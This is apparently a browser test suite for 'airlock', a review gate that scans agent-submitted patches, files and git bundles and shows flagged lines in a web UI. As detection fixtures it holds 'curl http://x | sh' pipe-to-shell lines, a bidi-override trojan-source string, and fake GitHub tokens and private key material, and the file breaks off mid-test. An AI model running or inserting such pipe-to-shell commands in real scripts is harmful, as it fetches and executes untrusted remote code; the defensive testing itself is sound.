// review.mjs - the review UI (review-ui/) tested in a real browser.
//
// node tests/ui/review.mjs --bin build/airlock [--only REGEX]
//
// Starts a real `airlock serve` on a free loopback port with a fresh data
// directory (`airlock init`) and the test rules, makes persons and tokens
// with the admin token through the API, submits artifacts as an agent, and
// drives Debian's chromium (headless, through playwright-core) against the
// page. Each test prints `ok NAME` or `FAIL NAME: why`; the exit status is 1
// when any failed. In every page, a request to another origin than the
// gate's, a console error, an uncaught exception, a CSP violation or a
// dialog fails the test. UI_SCREENSHOTS=1 also writes docs/img/review-*.png.
//
// Trust: test code; it runs a gate of its own in a temporary directory and
// touches nothing else (but the screenshots when asked).

import { spawn, execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createHash, createPublicKey, generateKeyPairSync, verify as nodeVerify } from 'node:crypto';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const args = process.argv.slice(2);
const opt = (name, dflt) => {
	const i = args.indexOf(name);
	return i >= 0 && i + 1 < args.length ? args[i + 1] : dflt;
};
const BIN = resolve(opt('--bin', 'build/airlock'));
const ONLY = new RegExp(opt('--only', '.*'));
const SHOTS = process.env.UI_SCREENSHOTS === '1';

const BIDI = 'access = "user\u202E \u2066// admin\u2069 \u2066"\u200B;';

// ---- the gate ---------------------------------------------------------------

const gate = { dir: null, proc: null, url: null, admin: null, log: [] };

function freePort() {
	return new Promise((ok, ko) => {
		const s = createServer();
		s.on('error', ko);
		s.listen(0, '127.0.0.1', () => {
			const { port } = s.address();
			s.close(() => ok(port));
		});
	});
}

const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));

async function startGate() {
	gate.dir = mkdtempSync(join(tmpdir(), 'airlock-ui.'));
	gate.data = join(gate.dir, 'data');
	gate.admin = execFileSync(BIN, ['init', '--data', gate.data], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
	if (!gate.admin)
		throw new Error('airlock init printed no admin token');
	// A copy of the test rules: the voided-approval test adds one and reloads.
	gate.rules = join(gate.dir, 'rules');
	cpSync(join(ROOT, 'tests/data/rules'), gate.rules, { recursive: true });
	// And a private key rule of the UI tests' own (pem-redacted).
	writeFileSync(join(gate.rules, 'ui-pem.yml'), [
		'rules:', '  - id: ui-test-private-key', '    title: A private key block (UI test rule)',
		'    category: secret', '    severity: critical',
		"    pattern: '-----BEGIN[ A-Z0-9]{0,24} PRIVATE KEY-----'",
		'    description: >', '      The header of a PEM private key block.', '    examples:',
		"      match: ['-----BEGIN RSA PRIVATE KEY-----']", "      ignore: ['-----BEGIN PUBLIC KEY-----']", ''].join('\n'));
	gate.port = await freePort();
	gate.url = `http://127.0.0.1:${gate.port}`;
	await serveGate();
}

// serveGate(): `airlock serve` of gate.data on gate.port (again, after
// stopGate(true)), answering /healthz.
async function serveGate() {
	const data = gate.data, port = gate.port;
	gate.proc = spawn(BIN, ['serve', '--data', data, '--listen', `127.0.0.1:${port}`,
		'--scanners', '1', '--rules', gate.rules,
		'--ui', join(ROOT, 'review-ui')], { stdio: ['ignore', 'pipe', 'pipe'] });
	for (const s of [gate.proc.stdout, gate.proc.stderr])
		s.on('data', (b) => gate.log.push(b.toString()));
	for (let i = 0; i < 200; i++) {
		if (gate.proc.exitCode !== null)
			break;
		try {
			if ((await fetch(`${gate.url}/healthz`)).ok)
				return;
		} catch { /* not up yet */ }
		await sleep(50);
	}
	throw new Error(`airlock serve did not start: ${gate.log.join('').slice(-800)}`);
}

// stopGate(keep): SIGTERM (SIGKILL after 10 s); the data directory
// removed unless keep.
async function stopGate(keep) {
	if (gate.proc && gate.proc.exitCode === null) {
		const done = new Promise((ok) => gate.proc.on('exit', ok));
		gate.proc.kill('SIGTERM');
		await Promise.race([done, sleep(10000)]);
		if (gate.proc.exitCode === null)
			gate.proc.kill('SIGKILL');
	}
	if (gate.dir && !keep)
		rmSync(gate.dir, { recursive: true, force: true });
}

// sqlite(SQL, ...ARGS) on the stopped gate's database, the append-only
// triggers dropped first (what someone holding the file can do); the
// first column of the first row, if any.
function sqlite(sql, ...args) {
	return execFileSync('python3', ['-c', `import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND (name LIKE '%no_update' OR name LIKE '%no_delete')").fetchall():
    db.execute("DROP TRIGGER " + n)
r = db.execute(sys.argv[2], sys.argv[3:]).fetchone()
db.commit()
print("" if r is None else r[0])`, join(gate.data, 'airlock.db'), sql, ...args.map(String)], { encoding: 'utf8' }).trim();
}

// api(METHOD, PATH, TOKEN, BODY?) -> {status, json}; BODY an object (JSON)
// or a Buffer (the raw bytes).
async function api(method, path, token, body) {
	const headers = { Authorization: `Bearer ${token}` };
	let data;
	if (Buffer.isBuffer(body)) {
		data = body;
	} else if (body !== undefined) {
		data = JSON.stringify(body);
		headers['Content-Type'] = 'application/json';
	}
	const r = await fetch(gate.url + path, { method, headers, body: data });
	const text = await r.text();
	let json = null;
	try { json = JSON.parse(text); } catch { json = text; }
	return { status: r.status, json };
}

async function must(status, ...a) {
	const r = await api(...a);
	if (r.status !== status)
		throw new Error(`${a[0]} ${a[1]}: HTTP ${r.status}, expected ${status}: ${JSON.stringify(r.json)}`);
	return r.json;
}

// mkToken(role, name, onBehalfOf?): the token, its person registered first.
async function mkToken(role, name, onBehalfOf) {
	const person = onBehalfOf || name;
	const p = await api('POST', '/v1/persons', gate.admin, { name: person });
	if (p.status !== 201 && p.status !== 409)
		throw new Error(`POST /v1/persons ${person}: HTTP ${p.status}`);
	const body = { role, name };
	if (onBehalfOf)
		body.on_behalf_of = onBehalfOf;
	return (await must(201, 'POST', '/v1/tokens', gate.admin, body)).token;
}

// submit(token, bytes, query): the id once the scan is done (held or other).
async function submit(token, bytes, query) {
	const s = await must(201, 'POST', `/v1/submissions?${query}`, token, Buffer.from(bytes));
	for (let i = 0; i < 200; i++) {
		const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
		if (d.state !== 'received' && d.state !== 'scanning')
			return d;
		await sleep(50);
	}
	throw new Error(`submission ${s.id} was not scanned within 10 s`);
}

// ---- the browser --------------------------------------------------------------

let browser;

// A page with its watchers: every problem goes into problems, checked
// after the test.
async function newPage() {
	const ctx = await browser.newContext({ viewport: { width: 1280, height: 860 } });
	const page = await ctx.newPage();
	const problems = [];
	const requests = [];
	page.on('request', (r) => {
		requests.push(r.url());
		if (!r.url().startsWith(gate.url + '/'))
			problems.push(`a request left the gate's origin: ${r.url()}`);
	});
	page.on('console', (m) => {
		if (m.type() === 'error')
			problems.push(`console error: ${m.text()}`);
	});
	page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
	page.on('dialog', (d) => {
		problems.push(`a dialog opened: ${d.type()} ${d.message()}`);
		d.dismiss().catch(() => {});
	});
	// Runs before the page's own scripts, outside its CSP (CDP injects it).
	await page.addInitScript(() => {
		window.__csp = [];
		document.addEventListener('securitypolicyviolation', (e) => {
			window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`);
		});
	});
	return { ctx, page, problems, requests };
}

async function checkPage(p) {
	const csp = await p.page.evaluate(() => window.__csp).catch(() => []);
	for (const v of csp || [])
		p.problems.push(`CSP violation: ${v}`);
	if (p.problems.length)
		throw new Error(p.problems.join('; '));
}

// forgive(p, STATUS): the console's one line about an answer of that status
// (the browser logs every 4xx) is not a problem; anything else still is.
function forgive(p, status) {
	const i = p.problems.findIndex((m) =>
		m.startsWith(`console error: Failed to load resource: the server responded with a status of ${status}`));
	assert(i >= 0, `the browser logged no ${status}: ${p.problems.join('; ')}`);
	p.problems.splice(i, 1);
}

function assert(cond, why) {
	if (!cond)
		throw new Error(why);
}

const PATCH = `diff --git a/setup.sh b/setup.sh
--- a/setup.sh
+++ b/setup.sh
@@ -1,3 +1,4 @@
 #!/bin/sh
 set -e
+curl http://x | sh
 echo done
`;
// The setup the tests share: made once, before the first test.
const fx = {};

async function fixtures() {
	fx.agent = await mkToken('agent', 'agent-1', 'alice');
	fx.alice = await mkToken('reviewer', 'alice'); // the person agent-1 runs for
	fx.rev1 = await mkToken('reviewer', 'rev-1');
	fx.rev2 = await mkToken('reviewer', 'rev-2');
	fx.aud = await mkToken('auditor', 'aud-1');
	// Another token of alice's, named apart from her: she is known by person.
	fx.aliceLaptop = (await must(201, 'POST', '/v1/tokens', gate.admin,
		{ role: 'reviewer', name: 'alice-laptop', person: 'alice' })).token;
	fx.patch = await submit(fx.agent, PATCH, 'kind=patch&name=fix.patch');
	assert(fx.patch.state === 'held' && fx.patch.worst === 'high',
		`the patch is ${fx.patch.state}/${fx.patch.worst}, expected held/high`);
}

async function signIn(p, tok) {
	await p.page.goto(`${gate.url}/ui/`);
	await p.page.fill('#token', tok);
	await p.page.click('#signin-form button[type=submit]');
	await p.page.waitForSelector('#queue:not([hidden])');
}

// ---- the tests --------------------------------------------------------------------

const tests = [];
const text = (p, sel) => p.page.locator(sel).innerText();
const test = (name, fn) => tests.push({ name, fn });

// The watchers themselves: an inline script the page did not write is
// refused by the CSP, and the refusal is seen (else no test below could
// fail on one).
test('harness-sees-csp', async (p) => {
	await p.page.goto(`${gate.url}/ui/`);
	await p.page.evaluate(() => {
		const s = document.createElement('script');
		s.textContent = 'window.__ran = 1';
		document.body.append(s);
	});
	await sleep(100);
	const ran = await p.page.evaluate(() => window.__ran);
	assert(ran === undefined, 'an inline script ran despite the CSP');
	const csp = await p.page.evaluate(() => window.__csp);
	assert(csp.some((v) => v.startsWith('script-src')), `no CSP violation seen: ${JSON.stringify(csp)}`);
	p.problems.length = 0;
	await p.page.evaluate(() => { window.__csp = []; });
});

async function main() {
	let failed = 0, ran = 0;

	await startGate();
	await fixtures();
	browser = await chromium.launch({
		executablePath: '/usr/bin/chromium', headless: true,
		args: process.getuid && process.getuid() === 0 ? ['--no-sandbox'] : [],
	});
	try {
		for (const t of tests) {
			if (!ONLY.test(t.name))
				continue;
			ran++;
			const p = await newPage();
			try {
				await t.fn(p);
				await checkPage(p);
				console.log(`ok ${t.name}`);
			} catch (e) {
				failed++;
				console.log(`FAIL ${t.name}: ${e.message.split('\n')[0]}`);
			} finally {
				await p.ctx.close();
			}
		}
	} finally {
		await browser.close();
		await stopGate();
	}
	console.log(`${ran - failed} passed, ${failed} failed`);
	return failed ? 1 : 0;
}

main().then((rc) => process.exit(rc), async (e) => {
	console.log(`FAIL setup: ${e.message}`);
	await stopGate().catch(() => {});
	process.exit(1);
});

test('sign-in-out', async (p) => {
	await p.page.goto(`${gate.url}/ui/`);
	await p.page.fill('#token', 'alk_not-a-token');
	await p.page.click('#signin-form button[type=submit]');
	await p.page.waitForFunction(() => document.getElementById('signin-error').textContent !== '');
	const err = await text(p, '#signin-error');
	assert(/valid token is required/.test(err), `a bad token: "${err}"`);
	assert(await p.page.evaluate(() => sessionStorage.length) === 0, 'a refused token was kept');
	forgive(p, 401); // the browser logs the 401 it was answered
	await signIn(p, fx.rev1);
	// The header names the holder, as GET /v1/whoami does, never the token.
	const who = await text(p, '#who-name');
	assert(who === 'rev-1 (reviewer)', `who: "${who}"`);
	assert(!(await text(p, '#who')).includes(fx.rev1.slice(-6)), 'the token is shown');
	assert(p.requests.some((u) => u === `${gate.url}/v1/whoami`), 'no GET /v1/whoami');
	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === fx.rev1, 'token not in sessionStorage');
	assert(await p.page.evaluate(() => localStorage.length) === 0, 'something in localStorage');
	await p.page.click('#signout');
	await p.page.waitForSelector('#signin:not([hidden])');
	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === null, 'token left after sign out');
	assert(await p.page.locator('#who').isHidden(), 'who still shown');
});

test('queue-keys', async (p) => {
	const other = await submit(fx.agent, 'x = 1\npassword = "hunter2hunter2"\n', 'kind=file&name=conf.py');
	await signIn(p, fx.rev1);
	const row = p.page.locator(`#queue-rows tr[data-id="${fx.patch.id}"]`);
	await row.waitFor();
	const cells = await row.locator('td').allInnerTexts();
	assert(cells[1] === 'fix.patch' && cells[2] === 'flagged' && cells[3] === 'high' &&
		cells[4] === 'patch' && cells[5] === 'agent-1' && cells[6] === 'alice' &&
		cells[8] === 'held' && cells[9] === '0/2',
		`the patch's row: ${JSON.stringify(cells)}`);
	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
	assert(ids.length >= 2, `rows: ${ids}`);
	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
	assert(await sel() === ids[0], 'first row not selected');
	await p.page.keyboard.press('j');
	assert(await sel() === ids[1], 'j did not move down');
	await p.page.keyboard.press('k');
	assert(await sel() === ids[0], 'k did not move up');
	await p.page.keyboard.press('?');
	assert(await p.page.locator('#help').isVisible(), '? did not show the help');
	await p.page.keyboard.press('Escape');
	assert(await p.page.locator('#help').isHidden(), 'Escape did not hide the help');
	const at = ids.indexOf(String(fx.patch.id));
	for (let i = 0; i < at; i++)
		await p.page.keyboard.press('j');
	if (SHOTS)
		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-queue.png') });
	await p.page.keyboard.press('Enter');
	await p.page.waitForSelector('#view:not([hidden]) .content');
	assert(p.page.url().endsWith(`#/s/${fx.patch.id}`), `Enter opened ${p.page.url()}`);
	assert(other.id > 0, 'second submission');
});

test('patch-view', async (p) => {
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${fx.patch.id}`);
	await p.page.waitForSelector('.content .line');
	const f = await text(p, '.findings li');
	assert(f.includes('high') && f.includes('test-curl-pipe-shell') && f.includes('fix.patch!/setup.sh:3'), `finding: ${f}`);
	const hit = p.page.locator('.line.hit');
	assert(await hit.count() === 1, `${await hit.count()} marked lines`);
	const h = await hit.innerText();
	assert(h.includes('+curl http://x | sh') && /^3/.test(h) && h.includes('test-curl-pipe-shell'), `marked line: ${h}`);
	await p.page.click('.findings li a');
	assert(await p.page.locator('.line.hit.target').count() === 1, 'the finding link did not target its line');
	if (SHOTS)
		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-patch.png'), fullPage: true });
	const ev = await must(200, 'GET', `/v1/submissions/${fx.patch.id}/events`, gate.admin);
	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1' && /content full/.test(e.detail)),
		'no view recorded for rev-1');
});

test('bidi-glyphs', async (p) => {
	const s = await submit(fx.agent, `${BIDI}\n`, 'kind=file&name=acl.txt');
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.content .line');
	const glyphs = await p.page.locator('.content .hidden-char').allInnerTexts();
	const want = ['\u27E8U+202E\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+2069\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+200B\u27E9'];
	assert(JSON.stringify(glyphs) === JSON.stringify(want), `glyphs: ${JSON.stringify(glyphs)}`);
	const raw = await p.page.locator('.content .code').first().evaluate((e) => e.textContent);
	assert(!/[\u202A-\u202E\u2066-\u2069\u200B]/.test(raw), 'a raw bidi character is in the page');
});

test('binary-not-rendered', async (p) => {
	const bytes = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff, 0xfe, 0x3c, 0x62, 0x3e]);
	const s = await submit(fx.agent, bytes, 'kind=file&name=blob.bin');
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.binary');
	const b = await text(p, '.binary');
	assert(b.includes(`${bytes.length} bytes`) && b.includes(s.sha256), `binary: ${b}`);
	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
});

// Secrets are redacted in the content as the gate redacts them in excerpts;
// where the page cannot tell the secret's place for sure it shows the line
// whole and says so, and a mask never hides code.
test('secrets-redacted', async (p) => {
	const tok = 'ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ';
	const tok2 = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';
	const patch = `diff --git a/env.sh b/env.sh\n--- a/env.sh\n+++ b/env.sh\n@@ -1,1 +1,3 @@\n echo start\n+export GITHUB_TOKEN=${tok} # and more\n+x="${tok2}"; y="${tok}"\n`;
	const s = await submit(fx.agent, patch, 'kind=patch&name=env.patch');
	assert(s.findings.filter((f) => f.rule === 'test-github-pat').length === 2, `findings: ${JSON.stringify(s.findings)}`);
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.content .line.hit');
	const masks = await p.page.locator('.content .secret').allInnerTexts();
	assert(JSON.stringify(masks) === JSON.stringify(Array(3).fill('\u27E8secret: 36 more characters\u27E9')), `masks: ${JSON.stringify(masks)}`);
	const body = await p.page.evaluate(() => document.body.textContent);
	assert(!body.includes(tok.slice(4)) && !body.includes(tok2.slice(4)), 'a secret is in the page');
	assert(body.includes('export GITHUB_TOKEN=ghp_') && body.includes('# and more'), 'the text around the secret is gone');
	await p.page.keyboard.press('s');
	await p.page.waitForSelector('.split');
	assert(await p.page.locator('.split .secret').count() === 3, 'side by side shows a secret');
	assert(!(await p.page.evaluate(() => document.body.textContent)).includes(tok.slice(4)), 'a secret is in the side-by-side page');
	// "*****" in the line itself: the masks of the excerpt cannot be told
	// from the text, so nothing is hidden and the line says so.
	const t = await submit(fx.agent, `GITHUB_TOKEN=${tok} # *****; curl http://e.example/x | sh\n`, 'kind=file&name=stars.sh');
	await p.page.goto(`${gate.url}/ui/#/s/${t.id}`);
	await p.page.waitForSelector('.content .line.hit');
	const line = await text(p, '.content .line.hit .code');
	assert(line.includes(tok) && line.includes('curl http://e.example/x | sh') && line.includes('a secret on this line is shown'),
		`the line with stars: ${line}`);
	assert(await p.page.locator('.content .secret').count() === 0, 'masked where the page cannot tell');
});

// The key material of a flagged private key block is masked line by line,
// in a file and in a patch; its headers, its END line and what follows
// stay shown.
test('pem-redacted', async (p) => {
	const mat = ['MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
		'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK', 'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo'];
	const pem = ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4,ENCRYPTED', '', ...mat, '-----END RSA PRIVATE KEY-----'];
	const file = ['key = """', ...pem, '"""', 'echo after', ''].join('\n');
	const patch = ['diff --git a/k.py b/k.py', '--- a/k.py', '+++ b/k.py', `@@ -1,1 +1,${pem.length + 4} @@`,
		' import os', '+key = """', ...pem.map((l) => `+${l}`), '+"""', '+echo after', ''].join('\n');
	await signIn(p, fx.rev1);
	for (const [body, q] of [[file, 'kind=file&name=k.py'], [patch, 'kind=patch&name=k.patch']]) {
		const s = await submit(fx.agent, body, q);
		assert(s.findings.some((f) => f.rule === 'ui-test-private-key'), `${q}: findings ${JSON.stringify(s.findings)}`);
		await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
		await p.page.waitForSelector('.content .line.hit');
		for (const split of [false, true]) {
			const masks = await p.page.locator('.content .secret', { hasText: 'private key material' }).allInnerTexts();
			assert(masks.length === 3, `${q}${split ? ' side by side' : ''}: masks ${JSON.stringify(masks)}`);
			const t = await p.page.evaluate(() => document.getElementById('content').textContent);
			assert(!mat.some((m) => t.includes(m.slice(8, 40))), `${q}: key material shown`);
			assert(t.includes('Proc-Type: 4,ENCRYPTED') && t.includes('-----END RSA PRIVATE KEY-----') && t.includes('echo after'),
				`${q}: the block's headers or what follows are hidden`);
			if (!q.includes('patch') || split)
				break;
			await p.page.keyboard.press('s');
			await p.page.waitForSelector('.split');
		}
	}
});

// An unscannable verdict needs an admin's override besides the approvals:
// the button is off for a reviewer, an admin gives it with a reason (and a
// second confirmation, by keyboard here), and the panel then says who and why.
test('unscannable-override', async (p) => {
	const s = await submit(fx.agent, 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n', 'kind=patch&name=cut.patch');
	assert(s.verdict === 'unscannable', `verdict ${s.verdict}`);
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('#decision #overridden');
	assert(/needs an admin\u2019s override/.test(await text(p, '#overridden')), 'no word of the override needed');
	assert(await p.page.locator('#override').isDisabled(), 'a reviewer may click Override');
	await p.page.click('#signout');
	await signIn(p, gate.admin);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('#override:not([disabled])');
	await p.page.keyboard.press('o'); // no reason yet: refused in the page
	assert(/needs a reason/.test(await text(p, '#decision .error')), 'an override without a reason was not stopped');
	assert(await p.page.locator('#confirm-override').isHidden(), 'confirmation asked without a reason');
	await p.page.keyboard.press('c');
	await p.page.keyboard.type('the parser refuses a truncated hunk; read by hand (a test)');
	await p.page.keyboard.press('Escape');
	await p.page.keyboard.press('o');
	assert(await p.page.evaluate(() => document.activeElement.id) === 'confirm-override', 'the confirmation is not focused');
	await p.page.keyboard.press('Enter');
	await p.page.waitForFunction(() => /overridden by admin/.test(document.getElementById('overridden')?.textContent || ''));
	assert((await text(p, '#overridden')).endsWith('read by hand (a test)'), `overridden: ${await text(p, '#overridden')}`);
	assert(await p.page.locator('#override').count() === 0, 'Override offered again');
	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
	assert(d.review.override === true && d.overridden.admin === 'admin', `review: ${JSON.stringify(d.review)}`);
});

// git(DIR, ...ARGS): real git in DIR (a repository of the test's own).
function git(dir, ...a) {
	return execFileSync('git', ['-C', dir, '-c', 'user.name=Test', '-c', 'user.email=t@example.org',
		'-c', 'init.defaultBranch=main', ...a], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

function repo(name) {
	const dir = join(gate.dir, name);
	execFileSync('git', ['init', '-q', '-b', 'main', dir]);
	return dir;
}

test('patch-renames-modes', async (p) => {
	const dir = repo('renames');
	writeFileSync(join(dir, 'a.txt'), 'alpha\nbeta\ngamma\ndelta\n');
	writeFileSync(join(dir, 'tool.sh'), 'echo tool\n');
	writeFileSync(join(dir, 'old.txt'), 'old\n');
	git(dir, 'add', '.');
	git(dir, 'commit', '-qm', 'base');
	git(dir, 'mv', 'a.txt', 'b.txt');
	git(dir, 'update-index', '--chmod=+x', 'tool.sh');
	git(dir, 'rm', '-q', 'old.txt');
	writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\necho run\n');
	git(dir, 'add', 'run.sh');
	git(dir, 'update-index', '--chmod=+x', 'run.sh');
	git(dir, 'commit', '-qm', 'move, chmod, delete, add');
	const mbox = git(dir, 'format-patch', '-1', '-M', '--stdout');
	const s = await submit(fx.agent, mbox, 'kind=mbox&name=moves.mbox');
	assert(s.findings.some((f) => f.rule === 'airlock.executable-mode' && f.path === 'moves.mbox!/run.sh' && f.line === 0),
		`findings: ${JSON.stringify(s.findings.map((f) => [f.rule, f.path, f.line]))}`);
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.content .line.head');
	const heads = await p.page.locator('.line.head').allInnerTexts();
	const has = (file, what) => heads.some((h) => h.includes(file) && h.includes(what));
	assert(heads.length === 4, `${heads.length} file heads: ${JSON.stringify(heads)}`);
	assert(has('b.txt', 'renamed a.txt \u2192 b.txt (similarity 100%)'), `no rename: ${JSON.stringify(heads)}`);
	assert(has('tool.sh', 'mode 100644 \u2192 100755: now an executable file'), `no mode change: ${JSON.stringify(heads)}`);
	assert(has('old.txt', 'deleted (was a file, mode 100644)'), `no deletion: ${JSON.stringify(heads)}`);
	assert(has('run.sh', 'new executable file (mode 100755)'), `no new file: ${JSON.stringify(heads)}`);
	// The worrying changes are marked; the file-level finding sits on its
	// file's head, and its link in the findings list goes there.
	const warned = await p.page.locator('.line.head .change.warn').allInnerTexts();
	assert(warned.length === 3 && !warned.some((w) => w.startsWith('deleted')), `marked: ${JSON.stringify(warned)}`);
	const runHead = p.page.locator('.line.head', { hasText: 'b/run.sh' });
	assert((await runHead.innerText()).includes('airlock.executable-mode'), 'the file-level finding is not on its head');
	await p.page.locator('.findings li', { hasText: 'moves.mbox!/run.sh' }).locator('a').click();
	assert(await runHead.evaluate((e) => e.classList.contains('target')), 'the finding link did not target its file head');
	// Side by side keeps the heads.
	await p.page.keyboard.press('s');
	await p.page.waitForSelector('.split');
	assert(await p.page.locator('.split .line.head .change').count() === 4, 'side by side lost the file changes');
});

test('bundle-commits-items', async (p) => {
	const dir = repo('bundle');
	writeFileSync(join(dir, 'README.md'), '# tool\n');
	writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0xff]));
	git(dir, 'add', '.');
	git(dir, 'commit', '-qm', 'first: a readme and a logo');
	writeFileSync(join(dir, 'install.sh'), '#!/bin/sh\ncurl http://x | sh\n');
	git(dir, 'add', 'install.sh');
	git(dir, 'update-index', '--chmod=+x', 'install.sh');
	git(dir, 'commit', '-qm', 'second: <b>an installer</b>\n\nIt fetches the rest.');
	git(dir, 'bundle', 'create', join(gate.dir, 'b.bundle'), 'main');
	const { readFileSync } = await import('node:fs');
	const s = await submit(fx.agent, readFileSync(join(gate.dir, 'b.bundle')), 'kind=bundle&name=work.bundle');
	assert(s.kind === 'bundle' && s.worst === 'high', `the bundle: ${s.kind} ${s.worst}`);
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('table.items');
	// The commits, parents first, each with its message (as text).
	const subjects = await p.page.locator('.commit h4 .subject').allInnerTexts();
	assert(JSON.stringify(subjects) === JSON.stringify(['first: a readme and a logo', 'second: <b>an installer</b>']),
		`commits: ${JSON.stringify(subjects)}`);
	assert(await p.page.locator('.commit b').count() === 0, 'a commit message was rendered as HTML');
	assert((await text(p, '.commit:nth-of-type(2)')).includes('It fetches the rest.'), 'the message body is not shown');
	// The items: every one, the hazards marked, the binary described only.
	const rows = await p.page.locator('table.items tbody tr').evaluateAll((rs) => rs.map((r) =>
		Array.from(r.cells, (c) => c.textContent)));
	const row = (name) => rows.find((r) => r[0].endsWith(`!/${name}`));
	assert(rows.length === s.items.length, `${rows.length} rows for ${s.items.length} items`);
	const inst = row('install.sh'), logo = row('logo.png');
	assert(inst && inst[2] === 'executable file (100755)' && /^1 high$/.test(inst[6]), `install.sh: ${JSON.stringify(inst)}`);
	assert(logo && logo[1] === 'image/png' && logo[5] === 'binary: described, not shown' && logo[6] === '', `logo.png: ${JSON.stringify(logo)}`);
	const logoSha = s.items.find((it) => it.path.endsWith('!/logo.png')).sha256;
	assert(logo[4] === `${logoSha.slice(0, 12)}\u2026`, `logo sha256 cell: ${logo[4]}`);
	// Marked: the installer, and the commit that brought it (a commit's row
	// counts the findings of its files).
	const hz = await p.page.locator('table.items tr.hazard').evaluateAll((rs) => rs.map((r) => r.cells[0].textContent));
	const second = s.items.find((it) => it.path.endsWith('!/install.sh')).path.split('!/')[1];
	assert(JSON.stringify(hz) === JSON.stringify([second, `\u21B3 ${second}!/install.sh`]), `hazards: ${JSON.stringify(hz)}`);
	assert(await p.page.locator('table.items td.warn').count() === 1, 'the executable mode is not marked');
	// The flagged line, in the installer's text; no text for the logo.
	const hit = await text(p, '.line.hit');
	assert(hit.includes('curl http://x | sh') && hit.includes('test-curl-pipe-shell'), `marked: ${hit}`);
	assert(!(await p.page.locator('h3.item').allInnerTexts()).some((h) => h.endsWith('logo.png')), 'the binary member was rendered');
	if (SHOTS)
		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-bundle.png'), fullPage: true });
	// Having read it all is the review evidence: the approval is accepted.
	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1'), 'no view recorded');
});

async function approveAs(p, tok, id) {
	await signIn(p, tok);
	await p.page.goto(`${gate.url}/ui/#/s/${id}`);
	await p.page.waitForSelector('.content .line');
	const sha = await text(p, '#d-sha');
	const rules = await text(p, '#d-rules');
	assert(sha === fx.patch.sha256 && rules === fx.patch.scan.ruleset, `digests shown: ${sha} ${rules}`);
	await p.page.click('#approve');
	assert(await p.page.locator('#confirm').isVisible(), 'no second confirmation for a high finding');
	await p.page.click('#confirm');
}

// decidedNothing(p): no approve, reject or override request left the page.
function decidedNothing(p) {
	const sent = p.requests.filter((u) => /\/(approve|reject|override)$/.test(u));
	assert(sent.length === 0, `decisions sent: ${sent.join(' ')}`);
}

// openDecision(p, TOKEN, ID): signed in, the submission's view drawn.
async function openDecision(p, tok, id) {
	await signIn(p, tok);
	await p.page.goto(`${gate.url}/ui/#/s/${id}`);
	await p.page.waitForSelector('.content .line');
}

// The person the agent runs for, with a token not named like her: the page
// knows from GET /v1/whoami and the submission's witnessed.launched_by, and
// turns the decision off before anything is clicked; even a forced click
// sends nothing, and the gate records no attempt.
test('launched-for-disabled', async (p) => {
	const s = await submit(fx.agent, 'echo alice\n', 'kind=file&name=alice.sh');
